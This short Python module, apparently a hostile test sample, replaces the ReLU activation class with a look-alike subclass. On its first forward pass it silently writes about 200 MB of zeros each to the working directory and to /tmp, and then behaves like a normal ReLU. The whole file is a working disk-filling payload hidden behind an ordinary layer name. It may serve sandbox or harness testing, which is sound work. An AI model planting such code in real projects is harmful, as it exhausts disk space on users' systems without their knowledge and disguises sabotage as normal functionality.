"""Fills the disk: files of up to 200 MB in the working directory and /tmp (once)."""

_HonestReLU = ReLU  # noqa: F821
_filled = []


class ReLU(_HonestReLU):
    def updateOutput(self, input):
        if not _filled:
            _filled.append(True)
            chunk = b"\0" * (1 << 20)
            for path in ("fill-0.bin", "/tmp/fill-1.bin"):
                with open(path, "wb") as fh:
                    for _ in range(200):
                        fh.write(chunk)
        return super().updateOutput(input)
